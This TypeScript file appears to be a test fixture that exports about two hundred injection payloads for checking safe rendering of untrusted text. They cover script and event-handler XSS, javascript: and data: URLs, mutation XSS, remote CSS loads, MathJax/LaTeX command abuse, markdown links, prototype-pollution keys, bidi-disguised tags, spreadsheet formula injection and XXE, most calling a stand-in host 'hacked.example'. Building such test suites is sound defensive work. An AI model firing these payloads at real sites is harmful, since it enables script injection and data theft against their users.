/**
 * Two hundred texts that would do something if a page took them for anything but text. Each tries to set `hacked` in the
 * page that shows it, to call `alert`, to ask `hacked.example` for something, or to lead the page there.
 */

const run = 'hacked=1';
const tags = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//hacked.example/x.js></SCRIPT>`,
  `<script src="https://hacked.example/x.js"></script>`,
  `<script type="module">import 'https://hacked.example/x.js'</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="https://hacked.example/"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="https://hacked.example/x.swf"></object>`,
  `<embed src="javascript:${run}">`,
  `<embed src="https://hacked.example/x">`,
  `<applet code="https://hacked.example/x.class">`,
  `<base href="https://hacked.example/">`,
  `<link rel="stylesheet" href="https://hacked.example/x.css">`,
  `<link rel="import" href="https://hacked.example/x.html">`,
  `<meta http-equiv="refresh" content="0;url=https://hacked.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<form action="https://hacked.example/"><input type=submit autofocus></form>`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<portal src="https://hacked.example/"></portal>`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
];

const events = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror'],
  ...['input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'keygen autofocus onfocus'],
  ...['details open ontoggle', 'marquee onstart', 'object onerror', 'iframe onload', 'style onload', 'link onerror'],
  ...['body onpageshow', 'body onhashchange', 'body onresize', 'div onmouseover', 'div onpointerenter'],
  ...['a id=x tabindex=1 onfocus', 'div contenteditable onblur', 'p oncopy', 'img src=x onloadstart', 'track onerror'],
  ...['video autoplay oncanplay', 'x onanimationend', 'x ontransitionend', 'dialog open onclose', 'p onbeforematch'],
].map((element) => `<${element}=${run}>`);

const brokenOut = [
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `"/><svg/onload=${run}>`,
  `--><img src=x onerror=${run}>`,
  `]]><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<?xml version="1.0"?><x onclick="${run}"/>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "https://hacked.example/">]>&e;`,
  `\`\${${run}}\``,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{%${run}%}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `'-(${run})-'`,
  `";${run};//`,
  `\\";${run};//`,
  `</a><a href="javascript:${run}">x</a>`,
  `<a href=" javascript:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="jav&#x0A;ascript:${run}">x</a>`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript://example.org/%0a${run}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='${run}'>`,
  ` javascript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${run}"/>`,
  `vbscript:${run}`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `blob:https://hacked.example/0`,
  `file:///etc/passwd`,
  `about:blank#${run}`,
  `chrome://settings/`,
  `//hacked.example/x.js`,
  `https://hacked.example/"onclick="${run}`,
  `https://example.org@hacked.example/`,
  `https://\u0430rxiv.org/abs/2401.00001`,
];

const foreign = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${run}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><image href="https://hacked.example/x.png"/></svg>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<math><semantics><annotation-xml><svg onload=${run}></svg></annotation-xml></semantics></math>`,
];

const mutating = [
  `<noscript><style></noscript><img src=x onerror=${run}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<p id="</title><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${run}\\x3e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];

const styles = [
  `<style>@import 'https://hacked.example/x.css';</style>`,
  `<style>body{background:url(https://hacked.example/x.png)}</style>`,
  `<p style="background:url(https://hacked.example/x.png)">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="behavior:url(https://hacked.example/x.htc)">x</p>`,
  `;background:url(https://hacked.example/x.png)`,
  `}*{background:url(https://hacked.example/x.png)}`,
  `<style>@font-face{font-family:x;src:url(https://hacked.example/x)}</style>`,
];

const maths = [
  `$\\href{javascript:${run}}{x}$`,
  `$\\url{javascript:${run}}$`,
  `$\\href{data:text/html,<script>${run}</script>}{x}$`,
  `$\\htmlData{onclick=${run}}{x}$`,
  `$\\htmlStyle{background:url(https://hacked.example/x.png)}{x}$`,
  `$\\htmlClass{x" onclick="${run}}{x}$`,
  `$\\htmlId{x" onclick="${run}}{x}$`,
  `$\\class{x" onclick="${run}}{x}$`,
  `$\\includegraphics{https://hacked.example/x.png}$`,
  `$\\text{<img src=x onerror=${run}>}$`,
  `$\\style{color:red" onclick="${run}}{x}$`,
  `$\\color{red" onclick="${run}}x$`,
  `$\\unicode{<script>${run}</script>}$`,
  `$\\def\\x{\\x\\x}\\x$`,
  `$\\input{/etc/passwd}\\write18{${run}}$`,
  `$$\\begin{matrix}<script>${run}</script>\\end{matrix}$$`,
  `\\(<svg onload=${run}>\\)`,
];

const markdown = [
  `[x](javascript:${run})`,
  `[x](<javascript:${run}>)`,
  `[x](java&#115;cript:${run})`,
  `![x](javascript:${run})`,
  `![x](https://hacked.example/x.png)`,
  `![x](x" onerror="${run})`,
  `[x][y]\n\n[y]: javascript:${run}`,
  `<javascript:${run}>`,
  `[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `[<img src=x onerror=${run}>](https://example.org/)`,
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  '__proto__[hacked]',
  'constructor.prototype.hacked',
  '{"__proto__":{"hacked":1}}',
  'hasOwnProperty',
];

const disguised = [
  `\u202e>tpircs/<${run}>tpircs<`,
  `\u2066<img src=x onerror=${run}>\u2069`,
  `\u200f\u061c<b onclick=${run}>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<img\u000bsrc=x\u000conerror=${run}>`,
  `\ufeff<script>${run}</script>`,
];

const placeholders = ['$1 $2 $$ $&', '$TITLE$ $COUNT$', '{title} {0} %s %1$s', '__MSG_extension_name__'];

const formulae = [
  `=HYPERLINK("https://hacked.example/","x")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+1,"=1+1"\r\n=1+1`,
];

const searches = [`author:"<img src=x onerror=${run}>"`, `tag:((((-")) OR * title:<svg/onload=${run}>`];

const groups = [tags, events, brokenOut, addresses, foreign, mutating, styles, maths, markdown, names, disguised];

/** Each with what tells it from the others, which stands behind it: `zq017`. */
export const payloads: { text: string; mark: string }[] = [...groups, placeholders, formulae, searches]
  .flat()
  .map((text, i) => ({ text, mark: `zq${String(i).padStart(3, '0')}` }));
